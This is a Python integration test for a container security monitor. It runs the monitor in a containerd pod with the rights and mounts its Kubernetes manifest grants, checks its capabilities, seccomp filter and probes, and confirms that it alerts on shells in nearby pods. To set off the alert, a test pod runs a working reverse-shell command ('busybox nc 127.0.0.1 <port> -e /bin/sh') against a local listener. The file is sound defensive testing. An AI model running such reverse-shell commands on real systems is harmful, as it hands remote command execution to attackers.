# SPDX-License-Identifier: Apache-2.0
"""The monitor as it is installed: its Debian package, and the image of deploy/Dockerfile as the manifest runs
it: in a pod of a real containerd, with exactly the rights, mounts and probes of deploy/kubernetes/nezuban.yaml,
where it must see what happens in a pod beside it.

Of the manifest, only what it says of the node's directories is replaced: the test has its own.
"""

import contextlib
import json
import pathlib
import subprocess
import tempfile
import unittest

import yaml

import package_checks
from containerd import Containerd
from harness import BINARY, PATIENCE, ROOT, Follower, wait_until
from image import REFERENCE, Image

NODE_PID = 2
SHELL_RULES = ("Reverse shell", "Shell or interpreter on a network connection")
PORTS = {"early": 4444, "late": 4445}
CAPABILITY_BITS = {"SYS_PTRACE": 19, "PERFMON": 38, "BPF": 39}


IMAGE = Image()


def setUpModule():
    unittest.addModuleCleanup(IMAGE.remove)
    IMAGE.build()


class Package(package_checks.Package):
    image = IMAGE


class Manifest:
    def __init__(self):
        documents = list(yaml.safe_load_all((ROOT / "deploy" / "kubernetes" / "nezuban.yaml").read_text()))
        self.config_maps = {d["metadata"]["name"]: d["data"] for d in documents if d["kind"] == "ConfigMap"}
        (daemon_set,) = (d for d in documents if d["kind"] == "DaemonSet")
        self.pod = daemon_set["spec"]["template"]["spec"]
        (self.container,) = self.pod["containers"]

    def mounts(self, directory, node):
        """(host path, container path, read-only) of each; `node`: directories of the node by name."""
        volumes = {v["name"]: v for v in self.pod["volumes"]}
        for mount in self.container["volumeMounts"]:
            volume = volumes[mount["name"]]
            if "configMap" in volume:
                source = directory / mount["name"]
                source.mkdir()
                for name, text in self.config_maps[volume["configMap"]["name"]].items():
                    (source / name).write_text(text)
                source /= mount.get("subPath", "")
            else:
                source = node.get(mount["name"], pathlib.Path(volume["hostPath"]["path"]))
                if "OrCreate" in volume["hostPath"]["type"]:
                    source.mkdir(parents=True, exist_ok=True)
            yield str(source), mount["mountPath"], mount.get("readOnly", False)


class Deploy(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.containerd = Containerd(pure_cgroup2=True)
        cls.addClassCleanup(cls.containerd.remove)
        cls.containerd.ctr("-n", "k8s.io", "images", "import", str(IMAGE.archive))
        cls.directory = pathlib.Path(cls.enterClassContext(tempfile.TemporaryDirectory(prefix="nz-d-")))
        cls.manifest = Manifest()
        (cls.directory / "go").mkdir()
        cls.shell("early")  # is there before the monitor
        cls.container = cls.start_monitor()
        wait_until(lambda: "watching" in cls.log(), "the monitor's pod to be watching", 3 * PATIENCE)

    @classmethod
    def start_monitor(cls):
        m = cls.containerd.messages
        wanted = cls.manifest.container
        rights = wanted["securityContext"]
        assert rights["seccompProfile"]["type"] == "RuntimeDefault" and cls.manifest.pod["hostPID"]
        node = {"run": cls.directory / "run", "store": cls.directory / "store", "crio": cls.directory / "crio",
                "containerd": cls.containerd.state}
        pod = cls.containerd.pod("nezuban", "nezuban", pid=NODE_PID, log_directory=str(cls.directory))
        mounts = [m.Mount(host_path=a, container_path=b, readonly=c)
                  for a, b, c in cls.manifest.mounts(cls.directory, node)]
        context = m.LinuxContainerSecurityContext(
            capabilities=m.Capability(add_capabilities=rights["capabilities"]["add"],
                                      drop_capabilities=rights["capabilities"]["drop"]),
            namespace_options=m.NamespaceOption(network=2, pid=NODE_PID),
            run_as_user=m.Int64Value(value=rights["runAsUser"]),
            readonly_rootfs=rights["readOnlyRootFilesystem"],
            no_new_privs=not rights["allowPrivilegeEscalation"],
            seccomp=m.SecurityProfile(profile_type=0))
        return cls.containerd.run(pod, m.ContainerConfig(
            metadata=m.ContainerMetadata(name="nezuban"), image=m.ImageSpec(image=REFERENCE),
            args=[a.replace("$(NODE_NAME)", "node-of-the-test") for a in wanted["args"]],
            mounts=mounts, log_path="monitor.log",
            linux=m.LinuxContainerConfig(security_context=context)))

    @classmethod
    def shell(cls, name):
        """A pod that gives a shell away once there is a file of its name."""
        pod = cls.containerd.pod(name)
        port = str(PORTS[name])
        cls.containerd.container(pod, "listener", "/bin/busybox", "nc", "-l", "-p", port)
        cls.containerd.container(pod, "web", "/bin/sh", "-c", f"while ! [ -e /go/{name} ]; do sleep 1; done; "
                                 f"exec busybox nc 127.0.0.1 {port} -e /bin/sh",
                                 mounts=[(str(cls.directory / "go"), "/go", True)])

    @classmethod
    def log(cls):
        file = cls.directory / "monitor.log"
        return file.read_text() if file.exists() else ""

    @staticmethod
    def status(address):
        out = subprocess.run([BINARY, "status", "--json", "--address", address], check=True, capture_output=True,
                             text=True, timeout=PATIENCE)
        return json.loads(out.stdout)

    def monitor_pid(self):
        """Without what it starts to test its sensors, which for a moment may have lost its parent."""
        return wait_until(self.only_pid, f"one process alone\n{self.log()}")

    def only_pid(self):
        parents = {}
        for process in pathlib.Path("/proc").glob("[0-9]*"):
            with contextlib.suppress(OSError):  # it has ended meanwhile
                if str(self.container) in (process / "cgroup").read_text():
                    parents[process.name] = (process / "stat").read_text().rsplit(")", 1)[1].split()[1]
        pids = [pid for pid, parent in parents.items() if parent not in parents]
        return pids[0] if len(pids) == 1 else None

    def test_has_no_more_rights_than_the_manifest_says(self):
        status = dict(line.split(":\t", 1) for line in
                      pathlib.Path(f"/proc/{self.monitor_pid()}/status").read_text().splitlines() if ":\t" in line)
        wanted = sum(1 << CAPABILITY_BITS[name]
                     for name in self.manifest.container["securityContext"]["capabilities"]["add"])
        self.assertEqual(int(status["CapEff"], 16), wanted)
        self.assertEqual(int(status["CapBnd"], 16), wanted)
        self.assertEqual(status["NoNewPrivs"].strip(), "1")
        self.assertEqual(status["Seccomp"].strip(), "2", "a filter")
        self.assertNotEqual(pathlib.Path(f"/proc/{self.monitor_pid()}/ns/cgroup").readlink(),
                            pathlib.Path("/proc/self/ns/cgroup").readlink(), "a cgroup namespace of its own")

    def test_probes_succeed(self):
        for probe in ("startupProbe", "livenessProbe"):
            answer = self.containerd.exec(self.container, *self.manifest.container[probe]["exec"]["command"])
            self.assertEqual(answer.exit_code, 0, answer.stderr)

    def test_sees_a_reverse_shell_in_the_pod_beside_it(self):
        address = f"unix://{self.directory}/run/nezuban.sock"
        follower = Follower([BINARY, "watch", "--json", "--address", address])
        self.addCleanup(follower.stop)
        wait_until(lambda: self.status(address)["subscribers"] == 1, "the subscriber")
        (self.directory / "go" / "early").touch()
        self.shell("late")
        (self.directory / "go" / "late").touch()
        for name in "early", "late":
            (alert, *_) = follower.wait_for(
                lambda a: a["rule"] in SHELL_RULES and a.get("pod", {}).get("name") == name,
                f"an alert on the {name} shell; {[a['output'] for a in follower.alerts]}\n{self.log()[-3000:]}")
            self.assertEqual(alert["hostname"], "node-of-the-test")
            self.assertEqual(alert["pod"]["namespace"], "shop")


if __name__ == "__main__":
    unittest.main(verbosity=2)
